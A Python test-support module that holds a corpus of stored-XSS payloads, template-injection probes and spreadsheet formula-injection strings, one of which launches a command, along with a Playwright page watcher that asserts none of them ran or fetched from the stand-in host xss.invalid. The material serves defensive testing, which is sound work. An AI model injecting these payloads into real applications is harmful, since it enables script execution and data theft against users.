"""Texts that would be scripts: the corpus of stored XSS, and an eye that sees whether any of them ran."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

BEACON = "//xss.invalid/"
RUN = "window.__xss=1"
PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script>{RUN}<!--",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={BEACON}a.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src={BEACON}i.png>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text x=9 y=9>a</text></a>",
    f"<svg><foreignObject><img src=x onerror={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<iframe src=javascript:parent.__xss=1>",
    f"<iframe src={BEACON}f></iframe>",
    f"<object data={BEACON}o></object>",
    f"<embed src={BEACON}e>",
    f"<video><source onerror={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<style>@import '{BEACON}s.css';</style>",
    f"<link rel=stylesheet href={BEACON}s.css>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<base href={BEACON}>",
    f"<form action={BEACON}><button>x</button></form>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<xss style=animation-name:x onanimationstart={RUN}>",
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<a href=javascript:{RUN}>a</a>",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}{{7*7}}", "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cimg src=x onerror={RUN}%3E",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u02bcimg src=x onerror={RUN}",
    f"\ufeff<img src=x onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    f"a\u2028{RUN}\u2029",
    f"\"-({RUN})-\"", f"'-({RUN})-'", f"`${{{RUN}}}`", f"\\';{RUN};//",
    f"]]></data><script>{RUN}</script>",
    "data: x\n\nevent: reload\ndata: {}\n\n",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://xss.invalid\")",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\n=1+1",
)  # fmt: skip
"""What a spreadsheet takes for a formula."""


def packed(payloads: Iterable[str], chars_max: int) -> list[str]:
    """Put as many payloads into each text as fit into a field."""
    texts = [""]
    for payload in payloads:
        if len(texts[-1]) + len(payload) + 1 > chars_max:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return [text for text in texts if text]


SCAN = """() => {
  const found = [];
  for (const node of document.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") && value.includes("__xss")) found.push(node.outerHTML.slice(0, 120));
      const leads = ["href", "src", "action", "formaction", "srcdoc", "xlink:href", "data"].includes(name);
      const away = /^\\s*(javascript:|data:text\\/html|(https?:)?\\/\\/xss.invalid)/i.test(value);
      if (leads && away) found.push(node.outerHTML.slice(0, 120));
    }
    const script = node.localName === "script" && node.textContent.includes("__xss");
    if (script || node.localName === "xss") found.push(node.outerHTML.slice(0, 120));
  }
  return { ran: window.__xss ?? null, found, text: document.documentElement.outerHTML.length };
}"""


class Watch:
    """One browser page, watched: what ran, what it asked elsewhere for, what its policy had to stop."""

    def __init__(self, page: Any, home: str) -> None:
        self.page = page
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self.stopped: list[str] = []
        page.on("request", lambda asked: self._asked(asked.url, home))
        page.on("dialog", self._dialog)
        page.on("console", lambda said: "Content Security" in said.text and self.stopped.append(said.text))

    def _asked(self, url: str, home: str) -> None:
        if not url.startswith((home, "data:image/", "blob:")):
            self.foreign.append(url)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def harmless(self) -> None:
        """Assert that nothing ran, and that nothing even became markup: the policy is a second lock."""
        seen = self.page.evaluate(SCAN)
        assert seen["ran"] is None, self.page.url
        assert seen["found"] == [], (self.page.url, seen["found"])
        assert self.foreign == [], (self.page.url, self.foreign)
        assert self.dialogs == []
        assert self.stopped == [], (self.page.url, self.stopped)

    def shows(self, text: str) -> bool:
        """Whether a text stands on the page as a text, or in a field."""
        wanted = " ".join(text.split())
        said = self.page.evaluate(
            "() => [document.body.textContent,"
            " ...[...document.querySelectorAll('input,textarea')].map((field) => field.value)]"
        )
        return any(wanted in " ".join(one.split()) for one in said)
